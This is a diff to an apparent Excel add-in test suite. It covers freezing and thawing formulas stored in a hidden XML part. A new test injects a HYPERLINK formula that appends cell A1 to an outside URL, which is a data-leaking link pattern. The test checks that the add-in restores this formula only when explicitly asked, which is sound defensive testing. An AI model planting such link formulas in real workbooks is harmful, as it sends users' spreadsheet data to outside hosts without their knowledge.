@@ -41,8 +41,8 @@ async function frozenState(): Promise<FrozenState | null> {
   return answer.state.frozen;
 }
 
-async function thaw(changed: "leave" | "replace" | "forget") {
-  const answer: ThawAnswer = await thawBook(changed);
+async function thaw(changed: "leave" | "replace" | "forget", outward = false) {
+  const answer: ThawAnswer = await thawBook(changed, outward);
   if (answer.kind !== "thawed") throw new Error(JSON.stringify(answer));
   await calculated();
   return answer;
@@ -181,5 +181,30 @@ test.each<readonly [string, (xml: string) => string]>([
   expect(await thawBook("leave")).toMatchObject({ problem: { refusal: "frozenDamaged" } });
   expect(await frozenState()).toEqual({ formulas: 0, changed: [] });
   expect(await thaw("forget")).toMatchObject({ formulas: 0 });
+  expect(await frozenState()).toBeNull();
+});
+
+test("a formula that was put into the hidden part comes back only where it was asked for", async () => {
+  const other = '=HYPERLINK("https://example.org/"&A1,"Results")';
+  await Excel.run(async (context) => {
+    const parts = context.workbook.customXmlParts.getByNamespace(FROZEN_PART).load("items/id");
+    await context.sync();
+    const part = context.workbook.customXmlParts.getItem(parts.items[0]!.id);
+    const xml = part.getXml();
+    await context.sync();
+    const formula = JSON.stringify("=DESK.VP(A5:A8,$A$1)");
+    const changed = xml.value.replace(formula, JSON.stringify(other).replaceAll("&", "\\u0026"));
+    expect(changed).not.toBe(xml.value);
+    part.setXml(changed);
+    await context.sync();
+  });
+  const listed = [{ place: { sheet: "VPs", cell: "D5" }, shown: other }];
+  expect((await frozenState())?.outward).toEqual(listed);
+  expect(await thaw("leave")).toMatchObject({ formulas: 4, left: [] });
+  expect(await formulas("VPs", "D5")).toEqual([[expect.any(Number)]]);
+  expect(await frozenState()).toMatchObject({ formulas: 1, changed: [], outward: listed });
+  expect(await thaw("replace")).toMatchObject({ formulas: 0 });
+  expect(await thaw("leave", true)).toMatchObject({ formulas: 1 });
+  expect(await formulas("VPs", "D5")).toEqual([[other]]);
   expect(await frozenState()).toBeNull();
 });
